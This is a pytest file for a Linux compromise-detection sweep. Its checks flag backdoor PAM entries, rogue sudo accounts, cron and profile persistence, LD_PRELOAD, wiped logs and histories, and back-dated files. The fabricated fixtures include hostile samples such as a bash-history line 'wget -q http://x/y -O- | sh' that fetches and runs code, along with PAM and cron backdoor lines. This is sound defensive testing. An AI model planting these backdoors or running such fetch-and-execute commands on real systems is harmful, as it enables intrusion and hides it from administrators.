"""The persistence and cover-up checks over fabricated facts (the lab test plants each one for real)."""

from __future__ import annotations

from typing import Any

import pytest

from aftermath.secure.sweep.checks import RecentPersistence, back_dated
from aftermath.secure.sweep.model import Severity
from aftermath.secure.sweep.run import apply_checks, probe_params
from aftermath.secure.sweep.techniques import pam_problem
from tests.secure.factsdata import DAY, NOW, clean_facts, host, proc


def persist(path: str, kind: str, text: str, package: str = "unowned", age: float = 400 * DAY,
            **extra: Any) -> dict[str, Any]:
    return {"path": path, "kind": kind, "text": text, "package": package, "mtime": NOW - age, "ctime": NOW - age,
            **extra}


def whats(facts: dict[str, Any], check: str) -> list[str]:
    return [f.what for f in apply_checks(host(facts)).findings if f.check == check]


@pytest.mark.parametrize(("line", "words"), [
    ("auth sufficient pam_succeed_if.so uid >= 0", "accepts every user"),
    ("auth sufficient pam_permit.so", "pam_permit always says yes"),
    ("auth sufficient /tmp/pam_evil.so", "outside the system's security folder"),
    ("session optional /dev/shm/x.so", "outside the system's security folder"),
    ("auth required pam_permit.so", ""),  # Debian's own common-auth ends with this
    ("auth [success=1 default=ignore] pam_unix.so nullok", ""),
    ("auth required /lib/x86_64-linux-gnu/security/pam_unix.so", ""),
    ("auth sufficient pam_succeed_if.so uid >= 1000 quiet", ""),
])
def test_pam_lines_that_let_anyone_in_are_told_from_debians_own(line: str, words: str) -> None:
    said = pam_problem(line)
    assert (words in said and said) if words else said == ""


def test_accounts_with_gid_0_in_sudo_new_or_system_with_a_shell_are_named() -> None:
    today = int(NOW // DAY)
    accounts = [{"user": "root", "uid": 0, "gid": 0, "shell": "/bin/bash"},
                {"user": "butter", "uid": 1001, "gid": 0, "shell": "/bin/bash"},
                {"user": "evil", "uid": 1002, "gid": 1002, "shell": "/bin/bash"},
                {"user": "old", "uid": 1003, "gid": 1003, "shell": "/bin/bash"},
                {"user": "svc", "uid": 998, "gid": 998, "shell": "/bin/sh"},
                {"user": "postgres", "uid": 101, "gid": 104, "shell": "/bin/bash"},
                {"user": "www-data", "uid": 33, "gid": 33, "shell": "/usr/sbin/nologin"}]
    shadow = [{"user": "evil", "last_change_days": str(today)}, {"user": "old", "last_change_days": str(today - 900)},
              {"user": "butter", "last_change_days": str(today - 900)}]
    groups = [{"name": "sudo", "gid": 27, "members": ["evil", "old"]}]
    facts = clean_facts(accounts=accounts, shadow=shadow, groups=groups)
    found = {f.what: f.severity for f in apply_checks(host(facts)).findings if f.check == "account-backdoor"}
    assert found == {
        "account butter (UID 1001) has the root group (GID 0) as its main group": Severity.HIGH,
        "account evil (UID 1002) is in the sudo group (it can become root)": Severity.HIGH,
        "account evil (UID 1002) was created or got its password 0 day(s) ago": Severity.HIGH,
        "account old (UID 1003) is in the sudo group (it can become root)": Severity.MEDIUM,
        "account svc (UID 998) is a system account with a login shell (/bin/sh)": Severity.HIGH,
    }


def test_capabilities_that_amount_to_root_are_critical_on_an_unpackaged_copy() -> None:
    caps = [{"path": "/tmp/cap_python", "caps": 1 << 7, "package": "unowned"},
            {"path": "/usr/bin/ping", "caps": 1 << 13, "package": "owned"}]  # cap_net_raw: not root
    found = [f for f in apply_checks(host(clean_facts(capabilities=caps))).findings if f.check == "file-capability"]
    assert [(f.what, f.severity) for f in found] == [
        ("/tmp/cap_python has cap_setuid and no package installed it", Severity.CRITICAL)]


def test_start_up_files_pointing_into_tmp_are_critical_unless_the_package_wrote_them() -> None:
    rows = [persist("/etc/cron.d/upd", "cron", "* * * * * root /tmp/.x\n"),
            persist("/etc/init.d/x11-common", "init", "mkdir /tmp/.X11-unix\n", "owned", as_packaged=True),
            persist("/etc/profile.d/p.sh", "shell_profile", "export LD_PRELOAD=/var/tmp/l.so\nHISTSIZE=0\n")]
    findings = apply_checks(host(clean_facts(persistence=rows))).findings
    by = {(f.check, f.evidence.get("path")): f for f in findings}
    assert by[("persistence-runs-from-temp", "/etc/cron.d/upd")].severity == Severity.CRITICAL
    assert ("persistence-runs-from-temp", "/etc/init.d/x11-common") not in by
    assert "sets LD_PRELOAD=/var/tmp/l.so" in by[("startup-preload", "/etc/profile.d/p.sh")].what
    assert "switches shell history off (HISTSIZE=0)" in by[("cover-tracks", "/etc/profile.d/p.sh")].what


def test_recent_changes_the_package_manager_made_are_not_recent_persistence() -> None:
    rows = [persist("/etc/pam.d/sshd", "pam", "@include common-auth\n", "owned", age=0.01 * DAY, as_packaged=True),
            persist("/etc/cron.d/job", "cron", "* * * * * root true\n", age=0.01 * DAY)]
    assert whats(clean_facts(persistence=rows), "recent-persistence") == [
        "cron file /etc/cron.d/job changed 0.0 days ago"]


def test_the_window_counts_from_when_the_command_started() -> None:
    rows = [persist("/etc/cron.d/job", "cron", "* * * * * root true\n", age=2 * DAY)]
    assert whats(clean_facts(persistence=rows, window_start=NOW - 3 * DAY), "recent-persistence")
    assert not whats(clean_facts(persistence=rows, window_start=NOW - 1 * DAY), "recent-persistence")


def test_emptied_logs_and_histories_are_told_from_rotation() -> None:
    logs = [{"path": "/var/log/auth.log", "exists": True, "size": 0, "mtime": NOW - 60, "ctime": NOW - 60,
             "rotated_mtime": NOW - 30 * DAY},
            {"path": "/var/log/syslog", "exists": True, "size": 0, "mtime": NOW - 60, "ctime": NOW - 60,
             "rotated_mtime": NOW - 61},  # just rotated
            {"path": "/var/log/messages", "exists": False, "rotated_mtime": None},  # never there
            {"path": "/var/log/wtmp", "exists": False, "rotated_mtime": NOW - 20 * DAY}]  # deleted, wtmp.1 kept
    hist = [{"path": "/root/.bash_history", "link": "/dev/null", "size": 9, "mtime": NOW, "ctime": NOW, "tail": ""},
            {"path": "/home/a/.bash_history", "link": None, "size": 40, "mtime": NOW - 500 * DAY,
             "ctime": NOW - 500 * DAY, "tail": "ls\nwget -q http://x/y -O- | sh\n"}]
    said = whats(clean_facts(logs=logs, histories=hist), "cover-tracks")
    assert said == ["shell history /root/.bash_history is a link to /dev/null",
                    "log /var/log/auth.log was emptied recently (not by log rotation)",
                    "log /var/log/wtmp is missing but its older copies are there",
                    "shell history /home/a/.bash_history runs a downloaded or temp-folder script: "
                    "wget -q http://x/y -O- | sh"]


def test_every_kind_of_persistence_file_the_probe_reads_says_why_it_matters() -> None:
    assert set(probe_params(14, NOW, [])["persistence"]) <= set(RecentPersistence.WHY)


def test_a_process_renamed_away_from_its_program_and_scripts_is_named() -> None:
    procs = [proc(10, "/usr/bin/python3.11", ["python3", "-c", "..."], comm="kworker/0:2"),
             proc(11, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/unattended-upgrade"],
                  comm="unattended-upgr"),  # a script: its name, cut to 15 characters
             proc(12, "/usr/lib/systemd/systemd", ["(sd-pam)"], comm="(sd-pam)"),
             proc(13, "/opt/app/bin/worker", ["worker"], comm="fetcher")]
    found = {f.evidence["pid"]: f.severity for f in apply_checks(host(clean_facts(processes=procs))).findings
             if f.check == "renamed-process"}
    assert found == {10: Severity.HIGH, 13: Severity.MEDIUM}


def test_a_back_dated_persistence_file_is_named_as_back_dated() -> None:
    row = {**persist("/etc/cron.d/backup", "cron", "0 3 * * * root /usr/local/bin/b\n", age=0.1 * DAY),
           "mtime": NOW - 365 * DAY}  # touch -d '1 year ago': the change time still says today
    [what] = whats(clean_facts(persistence=[row]), "recent-persistence")
    assert what == "cron file /etc/cron.d/backup changed 0.1 days ago (back-dated: its modification time says " \
                   "365 days ago)"
    fresh = persist("/etc/cron.d/new", "cron", "* * * * * root true\n", age=0.1 * DAY)
    assert "back-dated" not in whats(clean_facts(persistence=[fresh]), "recent-persistence")[0]
    assert back_dated(NOW - 20 * DAY, NOW - 19.5 * DAY, NOW - 14 * DAY) is False  # both before the window
